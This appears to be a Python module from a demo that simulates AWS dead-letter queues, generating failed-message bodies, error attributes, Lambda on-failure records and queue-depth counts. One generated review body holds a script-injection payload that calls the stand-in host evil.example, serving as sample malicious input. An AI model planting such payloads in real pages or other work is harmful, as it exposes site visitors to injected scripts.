"""What lies in the dead-letter queues: messages that their functions failed on, as SQS or Lambda leave them there."""

import json
from bisect import bisect_right
from collections.abc import Iterator
from typing import Any, NamedTuple

from demo.durations import DAY
from demo.world.errors import error_text
from demo.world.invocations import Message, event_request_id, message_of, version_at
from demo.world.specs import FunctionSpec, QueueSpec
from demo.world.stamps import iso
from demo.world.world import World


class Arrival(NamedTuple):
    """A message that came to stay. `sent_at` (SQS: SentTimestamp) and `arrived_at` are epoch milliseconds.

    `attributes` are message attributes (asynchronous DLQs: RequestID, ErrorCode, ErrorMessage). `source_arn` is the
    queue that SQS moved it from, empty where Lambda sent it. `error` is what the function raised.
    """

    id: str
    sent_at: int
    arrived_at: int
    body: str
    receive_count: int
    attributes: dict[str, str]
    source_arn: str
    error: str
    function: FunctionSpec


def arrivals(world: World, queue: QueueSpec, start: int, end: int) -> Iterator[Arrival]:
    """The messages that arrive in `queue` in [start, end), in order."""
    writers = world.writers(queue)
    for ts in range(start - start % 60, end, 60):
        come = [arrival for writer in writers for arrival in _of_minute(world, writer, ts)]
        yield from sorted((a for a in come if start * 1000 <= a.arrived_at < end * 1000), key=lambda a: a.arrived_at)


def arrived(world: World, queue: QueueSpec, start: int, end: int) -> int:
    """How many arrive in [start, end), both whole minutes."""
    return sum(_between(world, writer, start, end) for writer in world.writers(queue)) if end > start else 0


def held(world: World, queue: QueueSpec, end: int, removed: int) -> tuple[int, int | None]:
    """How many messages the queue holds at `end` and since when the oldest is in it (epoch seconds).

    `removed` of them were taken, oldest first; what is older than the retention or the last clearing by hand is gone.
    """
    cleared = (world.epoch + at for at in queue.drained if world.epoch + at <= end)
    start = max(end - queue.retention, *cleared, 0)
    start -= start % 60
    depth = arrived(world, queue, start, end) - removed
    return (depth, _nth_arrival(world, queue, start, end, removed)) if depth > 0 else (0, None)


def _of_minute(world: World, writer: FunctionSpec, ts: int) -> Iterator[Arrival]:
    facts = world.facts(writer)
    if not facts.failing:
        return
    came = ts - 60 * facts.failing.gives_up
    for index in range(facts.failing.arriving(facts.key, facts.epoch, came)):
        message = message_of(facts, came, index, len(facts.failing.offsets))
        at = ts * 1000 + int(message.id[:3], 16) * 14
        yield _arrival(world, writer, message, at)


def _arrival(world: World, writer: FunctionSpec, message: Message, at: int) -> Arrival:
    facts = world.facts(writer)
    assert facts.failing  # noqa: S101 - told by the caller
    error = facts.failing.error(facts.epoch, message.arrived)
    feed = world.fleet.queue(writer.account, writer.region, writer.feed) if writer.feed else None
    body, attributes = payload(writer, message), {}
    text = failure_message(error, message)
    if writer.dead_letter:
        attributes = {"RequestID": event_request_id(facts, message), "ErrorCode": "200", "ErrorMessage": text[:1024]}
    elif writer.on_failure:
        version = version_at(writer, at // 1000 - facts.epoch, 1.0)
        body = _record(writer, message, event_request_id(facts, message), version, error, at)
    sent = message.arrived * 1000 + int(message.id[:3], 16) * 14 if feed else at
    return Arrival(
        message.id, sent, at, body, message.attempt if feed else 0, attributes, feed.arn if feed else "", error, writer
    )


def payload(writer: FunctionSpec, message: Message) -> str:
    """The body of a failing message or event: an order, an uploaded picture, an event."""
    number = _number(message)
    detail: dict[str, Any] = {
        "orderId": number,
        "customer": f"c-{message.id[:8]}",
        "vatNumber": f"DE{number}27",
    }
    if writer.service == "media":
        bucket, name = {"name": "meadow-uploads"}, {"key": f"incoming/{message.id}.heic", "size": number}
        detail = {
            "Records": [
                {"eventSource": "aws:s3", "eventName": "ObjectCreated:Put", "s3": {"bucket": bucket, "object": name}}
            ]
        }
    elif writer.service == "reviews":
        detail = {"reviewId": number, "text": f"<script>fetch('//evil.example/{number}')</script> lovely tea pot"}
    elif writer.trigger == "async":
        detail = {"source": "shop.orders", "detail-type": "OrderShipped", "detail": {"orderId": number}}
    return json.dumps(detail)


def _number(message: Message) -> int:
    return 480_000 + int(message.id[:4], 16)


def failure_message(error: str, message: Message) -> str:
    """The error's message for this message: the same at every try."""
    return error_text(error).message.format(n=_number(message), id=message.id[:8])


def _record(writer: FunctionSpec, message: Message, request_id: str, version: str, error: str, at: int) -> str:
    """An on-failure destination's record; a stream's holds where the batch is, not what was in it."""
    context = {
        "requestId": request_id,
        "functionArn": f"{writer.arn}:{version}",
        "condition": "RetriesExhausted" if writer.trigger == "async" else "RetryAttemptsExhausted",
        "approximateInvokeCount": message.attempt,
    }
    response = {"statusCode": 200, "executedVersion": version, "functionError": "Unhandled"}
    record: dict[str, Any] = {
        "version": "1.0",
        "timestamp": iso(at),
        "requestContext": context,
        "responseContext": response,
    }
    if writer.trigger == "async":
        answer = {"errorMessage": failure_message(error, message), "errorType": error}
        return json.dumps(record | {"requestPayload": json.loads(payload(writer, message)), "responsePayload": answer})
    place = {
        "shardId": "shardId-00000001",
        "startSequenceNumber": str(at),
        "endSequenceNumber": str(at + 9),
        "batchSize": 10,
    }
    return json.dumps(record | {"DDBStreamBatchInfo": place})


def _between(world: World, writer: FunctionSpec, start: int, end: int) -> int:
    """The writer's share of `arrived`, from the running sums of each day that the interval touches."""
    total = 0
    for day in range(start // DAY, -(-end // DAY)):
        sums, began = world.arrived_by_day(writer, day), day * DAY
        first, last = max(start, began) - began, min(end, began + DAY) - began
        total += sums[last // 60 - 1] - (sums[first // 60 - 1] if first else 0)
    return total


def _nth_arrival(world: World, queue: QueueSpec, start: int, end: int, number: int) -> int | None:
    """The minute in which message `number` (from 0) after `start` arrived."""
    for began in range(start - start % DAY, end, DAY):
        first, last = max(start, began), min(end, began + DAY)
        here = arrived(world, queue, first, last)
        if number < here:
            minutes = range(first, last, 60)
            return minutes[bisect_right(minutes, number, key=lambda ts: arrived(world, queue, first, ts + 60))]
        number -= here
    return None
